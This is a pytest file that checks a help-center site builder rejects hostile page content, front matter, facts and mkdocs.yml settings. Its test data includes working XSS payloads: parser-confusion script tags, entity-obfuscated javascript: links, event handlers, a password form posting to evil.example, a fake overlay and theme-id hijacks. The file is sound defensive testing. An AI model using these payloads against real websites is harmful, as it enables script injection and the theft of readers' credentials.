"""The red-team attacks on page content, front matter, facts and mkdocs.yml: each one stops the build at its source.

Each case is a hostile or careless pull request that once passed `make build` and
ran script in Chromium. Now each is refused with its exact message and location,
and the finished site allows only its own scripts (the browser tests load the
real site and fail on any dialog or policy violation).
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from helpcenter.security.content import ScriptAllowlist, check_output, script_hash
from sitebuilder import FIXTURE_FACTS, build_site, real_config

HOME = "---\ntitle: Home\ndescription: The home page.\n---\n\nWelcome.\n"
NOT_ALLOWED = "(WRITING-REFERENCE.md#raw-html lists the HTML an article may use)"
MARKUP = "which the theme would print as part of the page's HTML"
THEME_ID = "is the theme's own id: its scripts find their elements by it, and a page using it takes them over"
THEME_NAME = "is the theme's own name: its scripts find their elements by it, and a page using it takes them over"


def article(body: str, *, title: str = "A page", description: str = "A page for a test.") -> str:
    """Front matter that passes the front-matter check; the body starts on line 7."""
    return f"---\ntitle: {title}\ndescription: {description}\nreviewed: 2026-01-01\n---\n\n{body}"


# --- page content, as a browser parses it ---------------------------------------------

# page body -> the exact problems (line 7 is the body's first line)
CONTENT: dict[str, tuple[str, list[str]]] = {
    "noscript": (
        '<div><noscript><p title="</noscript><script>alert(1)</script>">x</p></noscript></div>\n',
        [
            "7:6: html-not-allowed <noscript> is not allowed in an article -> remove it, or write the same in"
            f" Markdown {NOT_ALLOWED}",
            "7:37: script-tag <script> would run code in readers' browsers -> remove it; behaviour belongs in the"
            " theme (overrides/), reviewed by a developer",
        ],
    ),
    "svg-title": (
        "<div><svg><title><script>alert(1)</script></title></svg></div>\n",
        [
            "7:6: html-not-allowed <svg> is not allowed in an article -> save it as an image file under docs/ and"
            " show it with ![what it shows](file.svg)",
            f"7:11: html-not-allowed <title> is not allowed in an article -> remove it, or write the same in Markdown"
            f" {NOT_ALLOWED}",
            "7:18: script-tag <script> would run code in readers' browsers -> remove it; behaviour belongs in the"
            " theme (overrides/), reviewed by a developer",
        ],
    ),
    "svg-style": (
        "<div><svg><style><script>alert(1)</script></style></svg></div>\n",
        [
            "7:6: html-not-allowed <svg> is not allowed in an article -> save it as an image file under docs/ and"
            " show it with ![what it shows](file.svg)",
            "7:11: inline-style inline styles are blocked by the site's Content-Security-Policy (a page could cover"
            " the screen with a fake message) -> use the theme's Markdown (admonitions, tables, lists); a new look"
            " belongs in docs/assets/stylesheets/helpcenter.css, reviewed by a developer",
            "7:18: script-tag <script> would run code in readers' browsers -> remove it; behaviour belongs in the"
            " theme (overrides/), reviewed by a developer",
        ],
    ),
    "math": (
        "<div><math><mi>x</mi></math></div>\n",
        [
            "7:6: html-not-allowed <math> is not allowed in an article -> save it as an image file under docs/ and"
            " show it with ![what it shows](file.math)",
            f"7:12: html-not-allowed <mi> is not allowed in an article -> remove it, or write the same in Markdown"
            f" {NOT_ALLOWED}",
        ],
    ),
    "fake-call-box": (
        '<div style="position:fixed;inset:0">Call 1-900-555-0100 now</div>\n',
        [
            "7:6: inline-style inline styles are blocked by the site's Content-Security-Policy (a page could cover"
            " the screen with a fake message) -> use the theme's Markdown (admonitions, tables, lists); a new look"
            " belongs in docs/assets/stylesheets/helpcenter.css, reviewed by a developer",
        ],
    ),
    "form": (
        '<form action="https://evil.example/"><input name="password"></form>\n',
        [
            "7:1: html-not-allowed a form in an article could ask readers for their data -> remove it; readers"
            " reach us through the support phone and the feedback widget",
            "7:38: html-not-allowed a form in an article could ask readers for their data -> remove it; readers"
            " reach us through the support phone and the feedback widget",
        ],
    ),
    "theme-component": (
        '<div data-md-component="announce">x</div>\n',
        [
            "7:6: html-attribute 'data-md-component' on <div> is not allowed in an article -> remove the attribute"
            f" {NOT_ALLOWED}",
        ],
    ),
    "body-onload": (
        "Text.\n\n<body onload=alert(1)>\n",
        [
            "9:7: event-handler 'onload' would run code when readers use the page -> remove the attribute;"
            " pages cannot carry JavaScript",
        ],
    ),
    "entity-javascript-hex": (
        "Text.\n\n[Open](jav&#x09;ascript:alert(1))\n",
        [
            "9:8: unsafe-url 'jav ascript:alert(1)' would run code when followed -> link to a page of the help"
            " center or to an https:// address",
        ],
    ),
    "entity-javascript-decimal": (
        'Text.\n\n<a href="&#106;avascript:alert(1)">x</a>\n',
        [
            "9:10: unsafe-url 'javascript:alert(1)' would run code when followed -> link to a page of the help"
            " center or to an https:// address",
        ],
    ),
    "theme-config": (
        '<div id="__config" hidden>{"base": ".", "search": "../../assets/images/w.js"}</div>\n',
        [f"7:6: theme-id '__config' {THEME_ID} -> choose another id (did you mean 'config'?)"],
    ),
    "theme-id-attr-list": (
        "Text.\n{: #__search }\n\n## A heading {#__drawer}\n",
        [
            f"8:1: theme-id '__search' {THEME_ID} -> choose another id (did you mean 'search'?)",
            f"10:14: theme-id '__drawer' {THEME_ID} -> choose another id (did you mean 'drawer'?)",
        ],
    ),
    "theme-name-and-label": (
        '<a name="__drawer">x</a> <a name="search">y</a>\n\n<label for="__search">z</label>\n',
        [
            f"7:4: theme-id '__drawer' {THEME_NAME} -> choose another name (did you mean 'drawer'?)",
            f"7:29: theme-id 'search' {THEME_NAME} -> choose another name",
            f"9:8: theme-id '__search' {THEME_ID} -> choose another id (did you mean 'search'?)",
        ],
    ),
    "theme-numbered-id": (
        '<p id="&#95;_palette_3">x</p>\n',
        [
            "7:4: theme-id '__palette_3' starts with '__palette_', which is the theme's own id: its scripts find their"
            " elements by it, and a page using it takes them over -> choose another id"
        ],
    ),
    "ids-the-theme-does-not-own": (
        '## Search\n\n```python linenums="1"\nx = 1\n```\n\n=== "One"\n\n    One.\n\nA note[^1].\n\n[^1]: Here.\n',
        [],
    ),
    "aligned-table": ("| a | b |\n|:--|--:|\n| 1 | 2 |\n", []),
    "task-list-and-tabs": ('- [x] done\n- [ ] to do\n\n=== "One"\n\n    One.\n\n=== "Two"\n\n    Two.\n', []),
}


def test_content_a_browser_would_run_is_refused_at_its_line(tmp_path: Path) -> None:
    pages = {f"{case}.md": article(body, title=case) for case, (body, _) in CONTENT.items()}
    result = build_site(tmp_path, {"index.md": HOME, **pages})
    assert "Traceback" not in result.output
    expected = sorted(f"docs/{case}.md:{problem}" for case, (_, problems) in CONTENT.items() for problem in problems)
    assert sorted(result.problems) == expected


# --- text the theme prints ------------------------------------------------------------


@pytest.mark.parametrize(
    ("front_matter", "line", "message"),
    [
        (
            {"title": "'</title><script>alert(1)</script>'"},
            2,
            "markup-in-text the title contains </title>: titles cannot be formatted -> remove the tags",
        ),
        (
            {"description": "'\"><script>alert(1)</script>'"},
            3,
            "markup-in-text the description contains <script>: descriptions cannot be formatted -> remove the tags",
        ),
        (
            {"title": "'Fees < costs'"},
            2,
            f"markup-in-text the title contains <, {MARKUP} -> write it in words ('less than', 'before')",
        ),
        (
            {"description": "'Why is the \"review window\" short?'"},
            3,
            f'markup-in-text the description contains ", {MARKUP} -> use typographic quotes, “like this”, or none',
        ),
    ],
)
def test_front_matter_the_theme_prints_is_text(
    tmp_path: Path, front_matter: dict[str, str], line: int, message: str
) -> None:
    title = front_matter.get("title", "A page")
    description = front_matter.get("description", "A page for a test.")
    result = build_site(tmp_path, {"index.md": HOME, "a.md": article("Text.\n", title=title, description=description)})
    assert not result.ok
    assert result.problems == [f"docs/a.md:{line}:1: {message}"]


def facts_with(old: str, new: str) -> str:
    facts = FIXTURE_FACTS.read_text(encoding="utf-8")
    assert old in facts
    return facts.replace(old, new)


@pytest.mark.parametrize(
    ("old", "new", "needle", "message"),
    [
        (
            "\n  title: ",  # the announcement's (a guide's title is indented further)
            "\n  title: <script>alert(1)</script> ",
            "<script>",
            f"fact 'announcement.title' contains <, {MARKUP} -> write it in words ('less than', 'before')",
        ),
        (
            "  cta: ",
            "  cta: <b onclick=alert(1)>Go</b> ",
            "<b onclick",
            f"fact 'announcement.cta' contains <, {MARKUP} -> write it in words ('less than', 'before')",
        ),
    ],
)
def test_facts_are_text(tmp_path: Path, old: str, new: str, needle: str, message: str) -> None:
    facts = facts_with(old, new)
    result = build_site(tmp_path, {"index.md": HOME}, facts=facts)
    assert not result.ok
    line = next(number for number, text in enumerate(facts.split("\n"), 1) if needle in text)
    assert result.problems == [f"data/facts.yml:{line}:3: {message}"]
    assert "Traceback" not in result.output


@pytest.mark.parametrize(
    ("key", "value", "message"),
    [
        (
            "site_name",
            '"><script>alert(1)</script>',
            f"'site_name' contains <, {MARKUP} -> write it in words ('less than', 'before')",
        ),
        (
            "repo_url",
            'https://github.com/o/r"><script>alert(1)</script>',
            f"'repo_url' contains <, {MARKUP} -> write it in words ('less than', 'before')",
        ),
    ],
)
def test_settings_the_theme_prints_are_text(tmp_path: Path, key: str, value: str, message: str) -> None:
    result = build_site(tmp_path, {"index.md": HOME}, config={key: value})
    assert not result.ok
    lines = (tmp_path / "mkdocs.yml").read_text(encoding="utf-8").split("\n")
    line = next(number for number, text in enumerate(lines, 1) if text.startswith(f"{key}:"))
    assert f"mkdocs.yml:{line}:{len(key) + 3}: markup-in-setting {message}" in result.problems


def test_a_nav_title_is_text(tmp_path: Path) -> None:
    nav = [{"Home": "index.md"}, {"<img src=x onerror=alert(1)>": [{"A page": "a.md"}]}]
    result = build_site(tmp_path, {"index.md": HOME, "a.md": article("Text.\n")}, nav=nav)
    assert not result.ok
    assert any(
        problem.startswith("mkdocs.yml:") and f"'nav title' contains <, {MARKUP}" in problem
        for problem in result.problems
    ), result.output


# --- the finished page: only the site's own scripts ----------------------------------------

ALLOWED = ScriptAllowlist({"assets/javascripts/bundle.js"}, lambda base_url: [f"theme({base_url!r})"])


def finished(head: str, body: str = "") -> str:
    return f'<!doctype html><html><head><meta charset="utf-8">{head}</head><body>{body}</body></html>'


@pytest.mark.parametrize(
    ("page", "evidence"),
    [
        (finished("<script>alert(1)</script>"), "alert(1)"),
        (finished('<script src="https://cdn.example/x.js"></script>'), "https://cdn.example/x.js"),
        (finished('<script src="../evil.js"></script>'), "../evil.js"),
        (finished("", '<a href="#" onclick="steal()">x</a>'), "steal()"),
        (finished('<script type="text/template">x</script>'), "x"),
        (finished('<script type="application/ld+json">{"forged": 1}</script>'), '{"forged": 1}'),
    ],
)
def test_a_finished_page_may_only_carry_the_site_s_own_scripts(page: str, evidence: str) -> None:
    problems = check_output(
        page, page_url="billing/bill/", base_url="../..", allowed=ALLOWED, structured_data='{"@type": "FAQPage"}'
    )
    assert [problem.evidence for problem in problems] == [evidence]


def test_the_site_s_own_scripts_pass() -> None:
    page = finished(
        "<script>theme('../..')</script><script src=\"../../assets/javascripts/bundle.js\"></script>"
        '<script id="__config" type="application/json">{"base": "../.."}</script>'
        '<script type="application/ld+json">{"@type": "FAQPage"}</script>'
    )
    assert not check_output(
        page, page_url="billing/bill/", base_url="../..", allowed=ALLOWED, structured_data='{"@type": "FAQPage"}'
    )


def test_the_policy_comes_from_the_theme_not_from_the_output(real_site_dir: Path) -> None:
    """Every page's script-src is the theme's inline scripts for its depth: the same set on pages of one depth."""
    by_depth: dict[int, set[str]] = {}
    for page in real_site_dir.rglob("*.html"):
        if page.name == "404.html":
            continue  # its addresses start from the site's root, not its folder
        text = page.read_text(encoding="utf-8")
        policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]*)"', text)
        assert policy is not None, page
        sources = next(part for part in policy[1].split("; ") if part.startswith("script-src")).split()[1:]
        depth = len(page.relative_to(real_site_dir).parts)
        assert by_depth.setdefault(depth, set(sources)) == set(sources), page
        for body in re.findall(r"<script>(.*?)</script>", text, re.S):
            assert script_hash(body) in sources, page
        assert "'unsafe-inline'" not in policy[1]


def test_the_real_settings_print_no_markup() -> None:
    config = real_config()
    assert "<" not in config["site_name"] and "<" not in config["repo_url"]
